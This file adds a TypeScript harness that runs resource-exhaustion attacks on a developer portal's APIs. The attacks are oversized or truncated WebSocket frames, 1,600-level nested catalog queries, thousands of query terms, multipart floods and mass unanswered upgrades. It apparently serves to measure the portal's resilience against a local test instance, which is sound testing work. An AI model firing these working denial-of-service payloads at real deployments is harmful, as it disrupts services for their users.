@@ -1,0 +1,260 @@
+import { once, setMaxListeners } from 'node:events';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { Agent, request, type Dispatcher } from 'undici';
+
+/** The portal that is attacked. */
+export interface Target {
+  /** For example `http://127.0.0.1:40123`. */
+  readonly origin: string;
+  /** A token of the portal, of a user without special permissions. */
+  readonly token: string;
+  /** Ends the attack. */
+  readonly signal: AbortSignal;
+}
+
+/** Number of responses to the attacker, by status or error. */
+export type Responses = Record<string, number>;
+
+/** First message to this file as a process. */
+export type AttackOptions = Omit<Target, 'signal'> & { readonly name: string };
+
+type Attack = (target: Target, count: (response: string) => void) => unknown;
+
+const CONNECTIONS = { frames: 12, upgrades: 200, catalog: 4, directory: 10 };
+/** Sent in each unfinished WebSocket frame, in bytes. */
+const FRAME_BYTES = 40 * 2 ** 20;
+/** Pause of a client whose connection was closed, in milliseconds. */
+const PAUSE_MS = 250;
+const NESTING = 1600;
+const GROUPS = 8000;
+const PARTS = 1100;
+const ONCE = { once: true } as const;
+
+/** Attacks by name; they last until the signal of the target. */
+export const attacks: Readonly<Record<string, Attack>> = {
+  none: ({ signal }) => once(signal, 'abort'),
+
+  'WebSocket frames of 40 MB': async (target, count) => {
+    await upgradeOnce(target);
+    await forEachConnection(CONNECTIONS.frames, target, async () => {
+      const socket = await upgrade(target, '/api/signals', count);
+      await sendFrame(socket);
+      await untilClosed(socket, target.signal);
+    });
+  },
+
+  'deep catalog query': (target, count) => {
+    const body = JSON.stringify({ query: nestedQuery() });
+    return forEachConnection(CONNECTIONS.catalog, target, () =>
+      post(target, count, { path: '/api/catalog/entities/by-query', body }),
+    );
+  },
+
+  'deep catalog cursor': (target, count) => {
+    const cursor = {
+      orderFields: [],
+      orderFieldValues: [],
+      isPrevious: false,
+      query: nestedQuery(),
+    };
+    const body = JSON.stringify({
+      cursor: Buffer.from(JSON.stringify(cursor)).toString('base64'),
+    });
+    return forEachConnection(CONNECTIONS.catalog, target, () =>
+      post(target, count, { path: '/api/catalog/entities/by-query', body }),
+    );
+  },
+
+  '8,000 search terms': (target, count) => {
+    const terms = Array.from({ length: GROUPS }, (_, at) => `group=g${at}`);
+    return forEachConnection(CONNECTIONS.directory, target, () =>
+      send(target, count, {
+        method: 'GET',
+        path: `/api/directory/v1/search/users/?${terms.join('&')}`,
+      }),
+    );
+  },
+
+  'forms of 1,100 parts': (target, count) => {
+    // Short enough for the API's limit of 64 KiB.
+    const parts = Array.from(
+      { length: PARTS },
+      () => '--b\r\nContent-Disposition: form-data; name=p\r\n\r\n\r\n',
+    );
+    return forEachConnection(CONNECTIONS.directory, target, () =>
+      post(target, count, {
+        path: '/api/directory/v1/certs/',
+        body: `${parts.join('')}--b--\r\n`,
+        type: 'multipart/form-data; boundary=b',
+      }),
+    );
+  },
+
+  '200 unclaimed upgrades': async (target, count) => {
+    await upgradeOnce(target);
+    await forEachConnection(CONNECTIONS.upgrades, target, async () => {
+      const socket = await upgrade(target, '/api/none', count);
+      await untilClosed(socket, target.signal);
+    });
+  },
+};
+
+/** Runs several clients, each repeatedly until the signal. */
+async function forEachConnection(
+  connections: number,
+  { signal }: Target,
+  run: () => Promise<unknown>,
+): Promise<void> {
+  const client = async () => {
+    while (!signal.aborted) {
+      await run();
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, client));
+}
+
+function nestedQuery(): object {
+  let query: object = { kind: 'user' };
+  for (let level = 1; level < NESTING; level += 1) {
+    query = { $not: query };
+  }
+  return query;
+}
+
+function post(
+  target: Target,
+  count: (response: string) => void,
+  options: { path: string; body: string; type?: string },
+): Promise<void> {
+  const { path, body, type = 'application/json' } = options;
+  const headers = { 'content-type': type };
+  return send(target, count, { method: 'POST', path, headers, body });
+}
+
+const dispatcher = new Agent({ connections: null, headersTimeout: 0 });
+
+async function send(
+  { origin, token, signal }: Target,
+  count: (response: string) => void,
+  options: Pick<Dispatcher.RequestOptions, 'method' | 'path' | 'body'> & {
+    readonly headers?: Record<string, string>;
+  },
+): Promise<void> {
+  const { path, method, headers, body } = options;
+  try {
+    const response = await request(`${origin}${path}`, {
+      method,
+      headers: { ...headers, authorization: `Bearer ${token}` },
+      body,
+      signal,
+      dispatcher,
+    });
+    await response.body.dump();
+    count(`${response.statusCode}`);
+  } catch (error) {
+    if (signal.aborted) {
+      count('no response');
+    } else {
+      const { code = 'failed' } = error as { code?: string };
+      count(code);
+      await sleep(PAUSE_MS);
+    }
+  }
+}
+
+/**
+ * The signals plugin adds its listener at the first upgrade request and does
+ * not respond to it; later upgrade requests reach no other plugin.
+ */
+async function upgradeOnce(target: Target): Promise<void> {
+  const socket = await upgrade(target, '/api/signals', () => {}, PAUSE_MS);
+  socket.destroy();
+}
+
+/** Sends an upgrade request and waits for a response. */
+async function upgrade(
+  { origin, signal }: Target,
+  path: string,
+  count: (response: string) => void,
+  timeoutMs?: number,
+): Promise<Socket> {
+  const { hostname, port } = new URL(origin);
+  const socket = connect({ host: hostname, port: Number(port) });
+  // Reported by `untilClosed`.
+  socket.on('error', () => {});
+  socket.write(
+    `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
+      'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
+  );
+  const response = await new Promise<string>(resolve => {
+    socket.once('data', data => resolve(statusOf(data)));
+    socket.once('close', () => resolve('closed'));
+    signal.addEventListener('abort', () => resolve('no response'), ONCE);
+    if (timeoutMs !== undefined) {
+      setTimeout(() => resolve('no response'), timeoutMs);
+    }
+  });
+  count(response);
+  return socket;
+}
+
+function statusOf(response: Buffer): string {
+  const text = response.toString('latin1');
+  return /^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 'no HTTP';
+}
+
+/** Sends a frame (RFC 6455 §5.2) that is shorter than its header states. */
+async function sendFrame(socket: Socket): Promise<void> {
+  const head = Buffer.alloc(14);
+  head[0] = 0x82;
+  head[1] = 0xff;
+  head.writeBigUInt64BE(BigInt(90 * 2 ** 20), 2);
+  const chunk = Buffer.alloc(2 ** 18);
+  const closed = new Promise(resolve => socket.once('close', resolve));
+  socket.write(head);
+  for (let sent = 0; sent < FRAME_BYTES; sent += chunk.length) {
+    if (!socket.writable) {
+      return;
+    }
+    if (!socket.write(chunk)) {
+      const drained = new Promise(resolve => socket.once('drain', resolve));
+      await Promise.race([drained, closed]);
+    }
+  }
+}
+
+async function untilClosed(socket: Socket, signal: AbortSignal): Promise<void> {
+  if (!socket.closed && !signal.aborted) {
+    socket.resume();
+    await new Promise(resolve => {
+      socket.once('close', resolve);
+      signal.addEventListener('abort', resolve, ONCE);
+    });
+  }
+  if (!signal.aborted) {
+    await sleep(PAUSE_MS);
+  }
+  socket.destroy();
+}
+
+/*
+ * Attacks from a separate process, so that the measured requests are not
+ * delayed: the first message names the attack, the second one ends it.
+ */
+if (process.send) {
+  const aborter = new AbortController();
+  setMaxListeners(0, aborter.signal);
+  process.once('message', async (options: AttackOptions) => {
+    process.once('message', () => aborter.abort());
+    const responses: Responses = {};
+    await attacks[options.name](
+      { ...options, signal: aborter.signal },
+      response => {
+        responses[response] = (responses[response] ?? 0) + 1;
+      },
+    );
+    process.send!({ responses });
+    process.disconnect();
+  });
+}
